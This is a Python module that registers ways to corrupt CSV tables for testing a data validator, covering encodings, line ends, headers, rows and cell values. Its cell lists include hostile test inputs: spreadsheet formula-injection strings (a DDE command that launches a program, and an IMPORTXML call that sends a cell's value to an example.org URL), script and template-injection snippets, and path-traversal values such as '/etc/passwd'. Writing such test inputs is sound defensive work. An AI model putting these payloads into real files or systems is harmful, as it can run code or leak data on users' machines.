"""Ways to damage a table: each takes a table and a generator and returns the damaged file and the lines it touched.

A mutation that does not apply to a table (no date column, say) returns None. `visible=False` marks damage that leaves a
well-formed table with other, possible content: only the recorded hash can tell.
"""

import csv
import io
import string
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass

from innodivide.data.schema import foreign_keys


@dataclass(frozen=True)
class Table:
    """A table as it stands in its file: cells as text; `rows` without the header; row i is line i + 2."""

    name: str
    described: dict
    header: list[str]
    rows: list[list[str]]

    @property
    def fields(self) -> list[dict]:
        return self.described["schema"]["fields"]

    def text(self, rows=None, header=None, **style) -> str:
        out = io.StringIO()
        writer = csv.writer(out, **{"lineterminator": "\n", **style})
        writer.writerows([header or self.header, *(self.rows if rows is None else rows)])
        return out.getvalue()

    def with_cell(self, row: int, column: int, value: str) -> tuple[bytes, set[int]]:
        """Return the file with one cell changed, and its line."""
        rows = [list(r) for r in self.rows]
        assert rows[row][column] != value, "the mutation changes nothing"
        rows[row][column] = value
        return self.text(rows).encode(), {row + 2}


@dataclass(frozen=True)
class Mutation:
    name: str
    change: Callable
    visible: bool


MUTATIONS: dict[str, Mutation] = {}


def mutation(function=None, *, visible: bool = True):
    """Register a mutation under the name of its function."""

    def register(f):
        MUTATIONS[f.__name__] = Mutation(f.__name__, f, visible)
        return f

    return register(function) if function else register


def cells(name: str, wanted: Callable[[dict], bool], change: Callable, *, visible: bool = True) -> None:
    """Register a mutation of one cell: in a random column that is `wanted`, by `change(value, field, rng)`.

    `change` returns the new value, or None where this cell offers no occasion.
    """

    def apply(table: Table, rng):
        columns = [i for i, f in enumerate(table.fields) if wanted(f)]
        for column in rng.permutation(columns):
            for row in rng.permutation(len(table.rows))[:20]:
                value = change(table.rows[row][column], table.fields[column], rng)
                if value is not None and value != table.rows[row][column]:
                    return table.with_cell(int(row), int(column), value)
        return None

    MUTATIONS[name] = Mutation(name, apply, visible)


def pick(rng, values):
    return values[int(rng.integers(len(values)))]


# The file as a whole


@mutation
def missing_file(table, rng):
    return None if table.name == "source" else (None, set())


@mutation
def empty_file(table, rng):
    return b"", {1}


@mutation
def only_a_line_break(table, rng):
    return b"\n", {1}


@mutation
def header_without_rows(table, rng):
    return table.text([]).encode(), set()


@mutation
def byte_order_mark(table, rng):
    return b"\xef\xbb\xbf" + table.text().encode(), {1}


@mutation
def utf_16(table, rng):
    return table.text().encode(pick(rng, ["utf-16", "utf-16-le", "utf-16-be"])), None


@mutation
def windows_1252(table, rng):
    """As an old spreadsheet saves it; nothing changes where all is ASCII."""
    rows = [list(r) for r in table.rows]
    return table.text(rows).encode("cp1252", errors="replace"), None


@mutation
def byte_that_is_no_utf_8(table, rng):
    raw, at = table.text().encode(), 0
    at = int(rng.integers(len(raw) - 1))
    return raw[:at] + pick(rng, [b"\xff", b"\xc3\x28", b"\xe9", b"\xed\xa0\x80"]) + raw[at:], None


@mutation
def crlf(table, rng):
    return table.text(lineterminator="\r\n").encode(), set()


@mutation
def cr_only(table, rng):
    return table.text(lineterminator="\r").encode(), None


@mutation
def mixed_line_ends(table, rng):
    lines = table.text().split("\n")[:-1]
    return "".join(line + pick(rng, ["\n", "\r\n"]) for line in lines).encode(), set()


@mutation
def stray_carriage_return(table, rng):
    lines = table.text().split("\n")
    at = int(rng.integers(1, len(lines) - 1))
    lines[at] = lines[at].replace(",", ",\r", 1)
    return "\n".join(lines).encode(), None


@mutation
def no_line_break_at_the_end(table, rng):
    return table.text()[:-1].encode(), {len(table.rows) + 1}


@mutation
def cut_within_a_line(table, rng):
    raw = table.text().encode()
    at = int(rng.integers(1, len(raw) - 1))
    return (raw[:at] if raw[at - 1 : at] != b"\n" else raw[: at - 1]), None


@mutation(visible=False)
def cut_at_a_line_end(table, rng):
    keep = int(rng.integers(1, len(table.rows))) if len(table.rows) > 1 else None
    return None if keep is None else (table.text(table.rows[:keep]).encode(), set())


@mutation
def blank_line(table, rng):
    lines = table.text().split("\n")
    at = int(rng.integers(1, len(lines)))
    return "\n".join([*lines[:at], "", *lines[at:]]).encode(), {at + 1}


@mutation
def comment_line(table, rng):
    lines = table.text().split("\n")
    return "\n".join([*lines[:1], "# checked", *lines[1:]]).encode(), {2}


@mutation
def nul_byte(table, rng):
    raw = table.text().encode()
    at = int(rng.integers(len(raw) - 1))
    return raw[:at] + b"\0" + raw[at:], None


@mutation
def nul_bytes_at_the_end(table, rng):
    """As a file system leaves it after a crash."""
    return table.text().encode() + b"\0" * 512, None


@mutation
def other_delimiter(table, rng):
    return table.text(delimiter=pick(rng, [";", "\t", "|"])).encode(), {1}


@mutation
def quotes_around_everything(table, rng):
    return table.text(quoting=csv.QUOTE_ALL).encode(), set()


@mutation
def quote_not_closed(table, rng):
    lines = table.text(quoting=csv.QUOTE_ALL).split("\n")
    at = int(rng.integers(1, len(lines) - 1))
    lines[at] = lines[at][:-1]
    return "\n".join(lines).encode(), None


@mutation
def text_after_a_closed_quote(table, rng):
    lines = table.text(quoting=csv.QUOTE_ALL).split("\n")
    at = int(rng.integers(1, len(lines) - 1))
    lines[at] += "x"
    return "\n".join(lines).encode(), {at + 1}


@mutation
def apostrophes_for_quotes(table, rng):
    return table.text(quotechar="'", quoting=csv.QUOTE_ALL).encode(), {1}


@mutation
def escaped_quotes(table, rng):
    """Backslashes for doubled quotes; nothing changes where no cell needs quotes."""
    return table.text(doublequote=False, escapechar="\\").encode(), None


@mutation
def html_page_instead(table, rng):
    return b"<!DOCTYPE html>\n<html><body>503 Service Unavailable</body></html>\n", {1}


@mutation
def git_conflict(table, rng):
    lines = table.text().split("\n")
    at = int(rng.integers(1, len(lines) - 1))
    return "\n".join([*lines[:at], "<<<<<<< HEAD", lines[at], "=======", *lines[at:]]).encode(), {at + 1}


@mutation
def git_lfs_pointer(table, rng):
    return b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n", {1}


# Header and columns


@mutation
def header_doubled_name(table, rng):
    if len(table.header) < 2:
        return None
    header = [table.header[0], table.header[0], *table.header[2:]]
    return table.text(header=header).encode(), {1}


@mutation
def header_renamed(table, rng):
    header = list(table.header)
    header[int(rng.integers(len(header)))] = pick(rng, ["", "value ", "Wert", "Unnamed: 0", "<b>"])
    return table.text(header=header).encode(), {1}


@mutation
def header_in_capitals(table, rng):
    return table.text(header=[h.upper() for h in table.header]).encode(), {1}


@mutation
def header_missing(table, rng):
    return table.text().split("\n", 1)[1].encode(), {1}


@mutation
def header_again(table, rng):
    return table.text([table.header, *table.rows]).encode(), {2}


@mutation
def columns_swapped(table, rng):
    first, second = rng.choice(len(table.header), 2, replace=False)
    swap = list(range(len(table.header)))
    swap[first], swap[second] = swap[second], swap[first]
    return table.text([[r[i] for i in swap] for r in table.rows], [table.header[i] for i in swap]).encode(), {1}


@mutation(visible=False)
def cells_of_two_columns_swapped(table, rng):
    """Under an unchanged header: seen where the types differ, else only by the hash."""
    for first, second in (rng.choice(len(table.header), 2, replace=False) for _ in range(20)):
        if any(r[first] != r[second] for r in table.rows):
            rows = [list(r) for r in table.rows]
            for r in rows:
                r[first], r[second] = r[second], r[first]
            return table.text(rows).encode(), set()
    return None


@mutation
def column_added(table, rng):
    return table.text([[*r, "1"] for r in table.rows], [*table.header, "extra"]).encode(), {1}


@mutation
def index_column_added(table, rng):
    rows = [[str(i), *r] for i, r in enumerate(table.rows)]
    return table.text(rows, ["", *table.header]).encode(), {1}


@mutation
def column_missing(table, rng):
    gone = int(rng.integers(len(table.header)))
    rows, header = ([[v for i, v in enumerate(r) if i != gone] for r in part] for part in (table.rows, [table.header]))
    return table.text(rows, header[0]).encode(), {1}


# Rows


def ragged(table, rng, change):
    rows = [list(r) for r in table.rows]
    at = int(rng.integers(len(rows)))
    rows[at] = change(rows[at])
    return table.text(rows).encode(), {at + 2}


@mutation
def row_too_long(table, rng):
    return ragged(table, rng, lambda r: [*r, ""])


@mutation
def row_too_short(table, rng):
    return ragged(table, rng, lambda r: r[:-1])


@mutation
def row_shifted(table, rng):
    return ragged(table, rng, lambda r: ["", *r])


@mutation
def row_twice(table, rng):
    at = int(rng.integers(len(table.rows)))
    return table.text([*table.rows, table.rows[at]]).encode(), {len(table.rows) + 2}


@mutation(visible=False)
def row_gone(table, rng):
    gone = int(rng.integers(len(table.rows)))
    return table.text([r for i, r in enumerate(table.rows) if i != gone]).encode(), set()


@mutation(visible=False)
def rows_reversed(table, rng):
    return table.text(table.rows[::-1]).encode(), set()


@mutation(visible=False)
def cells_of_two_rows_swapped(table, rng):
    column = int(rng.integers(len(table.header)))
    values = [r[column] for r in table.rows]
    other = next((i for i, v in enumerate(values) if v != values[0]), None)
    if other is None:
        return None
    rows = [list(r) for r in table.rows]
    rows[0][column], rows[other][column] = values[other], values[0]
    return table.text(rows).encode(), set()


@mutation(visible=False)
def column_sorted_alone(table, rng):
    """What a spreadsheet does when one column is sorted without the others."""
    for column in map(int, rng.permutation(len(table.header))):
        values = sorted(r[column] for r in table.rows)
        if values != [r[column] for r in table.rows]:
            return table.text([[*r[:column], v, *r[column + 1 :]] for r, v in zip(table.rows, values)]).encode(), set()
    return None


# Cells


def typed(*kinds):
    return lambda f: f["type"] in kinds


def limit(name):
    return lambda f: name in f.get("constraints", {})


def free_text(f):
    """Tell whether a column takes any words: no list of values, and no pattern or an open one (an address, a name)."""
    limits = f.get("constraints", {})
    pattern = limits.get("pattern", "\\S")
    return f["type"] == "string" and "enum" not in limits and ("\\S" in pattern or "[^" in pattern)


def constant(*values):
    """Write one of these values."""
    return lambda value, field, rng: pick(rng, values)


def filled(change):
    """Apply a change only to a cell that is not empty."""
    return lambda value, field, rng: change(value, rng) if value else None


NUMBER = typed("integer", "number")
SPELLINGS = ("NaN", "nan", "NA", "N/A", "n/a", "null", "NULL", "None", "inf", "-inf", "Infinity", "+Infinity", "1e999")
NOT_KNOWN = ("-", ".", "..", ":", "?", "#N/A", "#DIV/0!", "#REF!", "n.d.", "missing", "<NA>", "nicht verfügbar")
SCRIPTS = {"arabic": 0x660, "devanagari": 0x966, "wide": 0xFF10, "bold": 0x1D7CE, "thai": 0xE50}
FORMULAS = (
    '=HYPERLINK("https://example.org","click")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3",
    "=1+1",
    "＝1+1",
    "＋1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    ' ="a"',
    '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
)
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u202e\u2066\u061c\u180e\u00a0\u2028\u2029\u202f\u3000\U000e0041\ufffd"
HTML = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{ 7*7 }}", "${7*7}", "[x](javascript:alert(1))")
PATHS = ("../x", "..", "/etc/passwd", "a/b", "..\\x", "C:\\x", "~", "%2e%2e%2f", "x\0y", "con", "-rf")

cells("word_for_number", NUMBER, constant("twenty", "many", "12 apples", "true", "2021-04-30"))
cells("nan_and_inf", NUMBER, constant(*SPELLINGS))
cells("mark_for_missing", NUMBER, constant(*NOT_KNOWN))
cells("decimal_comma", NUMBER, filled(lambda v, rng: v.replace(".", ",") if "." in v else v + ",5"))
cells("thousands", NUMBER, constant("1,234", "1 234", "1'234", "1\u00a0234", "1\u202f234", "1.234.567", "1,234.5"))
cells("unit_or_flag", NUMBER, filled(lambda v, rng: v + pick(rng, ["%", " %", " €", "m", " b", " (p)", "*", "¹", "e"])))
cells("other_spelling", NUMBER, constant("0x10", "1_000", "1e3", "1E-400", "+5", "007", "-0", "½", "Ⅳ", "−5", "5-"))
cells("zero_padding", NUMBER, filled(lambda v, rng: "0" + v))
cells("whole_number_with_point", typed("integer"), filled(lambda v, rng: v + ".0"))
cells("too_many_digits", NUMBER, filled(lambda v, rng: "9" * int(rng.integers(20, 900))))
cells("below_the_range", limit("minimum"), lambda v, f, rng: f"{f['constraints']['minimum'] - int(rng.integers(1, 9))}")
cells("above_the_range", limit("maximum"), lambda v, f, rng: f"{f['constraints']['maximum'] + int(rng.integers(1, 9))}")
cells(
    "impossible_date",
    typed("date"),
    constant(
        "2021-02-30", "2021-13-01", "2021-00-10", "2023-02-29", "9999-12-31", "0001-01-01", "1899-12-31", "2100-01-01"
    ),
)
cells(
    "other_date_spelling",
    typed("date"),
    constant("30/04/2021", "04/30/2021", "2021/04/30", "20210430", "2021-4-3", "30 April 2021", "44316", "2021-W17-5"),
)
cells("date_with_time", typed("date"), filled(lambda v, rng: v + pick(rng, ["T00:00", " 00:00:00", "Z", "+02:00"])))
cells("other_boolean", typed("boolean"), constant("TRUE", "True", "1", "0", "yes", "FALSE", "t", "wahr", "-1"))
cells("value_taken_out", limit("required"), filled(lambda v, rng: ""))
cells("unknown_code", limit("enum"), constant("other", "unknown", "XX", "leader;strong", "0"))
cells("code_in_other_case", limit("enum"), filled(lambda v, rng: v.swapcase()))
cells("pattern_broken", limit("pattern"), filled(lambda v, rng: f"{v}{pick(rng, ['|', '%', '(x)', '^'])}"))
cells("formula", lambda f: True, constant(*FORMULAS))
cells("blank_before", lambda f: True, filled(lambda v, rng: " " + v))
cells("blank_after", lambda f: True, filled(lambda v, rng: v + pick(rng, [" ", "\u00a0", "\u3000", "\t"])))
cells("only_blanks", lambda f: True, constant(" ", "\u00a0", "\t", "   "))
cells(
    "control_character", lambda f: True, filled(lambda v, rng: v + chr(pick(rng, [1, 7, 8, 10, 11, 12, 27, 127, 133])))
)
cells("line_break_in_a_cell", lambda f: True, filled(lambda v, rng: v[:1] + pick(rng, ["\n", "\r\n", "\r"]) + v[1:]))
cells("huge_cell", lambda f: True, constant("x" * 5_000, "1" * 60_000, "é" * 140_000))
cells("accent_apart", typed("string"), filled(lambda v, rng: v[:1] + pick(rng, ["\u0301", "\u0308"]) + v[1:]))


@mutation
def accents_decomposed(table, rng):
    """The whole file in the other Unicode form, as some systems store it; nothing changes where all is ASCII."""
    return unicodedata.normalize("NFD", table.text()).encode(), None


def in_other_script(value: str, rng):
    digits = [i for i, c in enumerate(value) if c in string.digits]
    if not digits:
        return None
    at, zero = pick(rng, digits), SCRIPTS[pick(rng, sorted(SCRIPTS))]
    return value[:at] + chr(zero + int(value[at])) + value[at + 1 :]


cells("digit_of_another_script", lambda f: not free_text(f), filled(in_other_script))
cells(
    "invisible_character",
    lambda f: True,
    filled(lambda v, rng: (lambda at: v[:at] + pick(rng, INVISIBLE) + v[at:])(int(rng.integers(len(v) + 1)))),
)


def lookalike(value: str, rng):
    """A Cyrillic or Greek letter in the place of a Latin one."""
    alike = str.maketrans("ABCEHIKMNOPTXaceopx", "АВСЕНІКМΝОРТХасеорх")
    return value.translate(alike) if value != value.translate(alike) else None


cells("letter_of_another_script", lambda f: typed("string")(f) and not free_text(f), filled(lookalike))
cells("web_page_code", lambda f: not free_text(f), constant(*HTML))
cells("web_page_code_in_text", free_text, constant(*HTML), visible=False)
cells("path_for_a_code", limit("pattern"), constant(*PATHS))


@mutation
def path_for_a_reference(table, rng):
    return _reference(table, rng, lambda value: pick(rng, PATHS))


@mutation
def reference_to_nothing(table, rng):
    return _reference(table, rng, lambda value: pick(rng, ["XX", "QQ99", "NO_SUCH_SOURCE", value + "x"]))


@mutation
def reference_in_other_case(table, rng):
    return _reference(table, rng, str.swapcase)


def _reference(table, rng, change):
    """Change a cell that refers to another table."""
    columns = {field for key in foreign_keys(table.described) for field in key["fields"]}
    places = [
        (i, table.header.index(c))
        for c in sorted(columns)
        for i, r in enumerate(table.rows)
        if r[table.header.index(c)]
    ]
    if not places:
        return None
    row, column = pick(rng, places)
    value = change(table.rows[row][column])
    return None if value == table.rows[row][column] else table.with_cell(row, column, value)


@mutation
def further_sources_badly_listed(table, rng):
    if "more_source_ids" not in table.header:
        return None
    column, row = table.header.index("more_source_ids"), int(rng.integers(len(table.rows)))
    one = table.rows[row][table.header.index("source_id")]
    return table.with_cell(
        row, column, pick(rng, [f"{one};", f";{one}", f"{one};;{one}", f"{one}, {one}", f"{one}; {one}"])
    )


@mutation
def value_of_a_unique_column_repeated(table, rng):
    columns = [i for i, f in enumerate(table.fields) if limit("unique")(f)]
    if not columns or len(table.rows) < 2:
        return None
    column = pick(rng, columns)
    return table.with_cell(len(table.rows) - 1, column, table.rows[0][column])


def another_digit(value: str, rng):
    """A figure that could as well be true: the last digit changed, still within any range."""
    return value[:-1] + {"0": "1", "9": "8"}.get(value[-1], str(int(value[-1]) - 1))


cells("figure_changed", typed("number"), filled(another_digit), visible=False)
cells("figure_taken_out", lambda f: not limit("required")(f), filled(lambda v, rng: ""), visible=False)
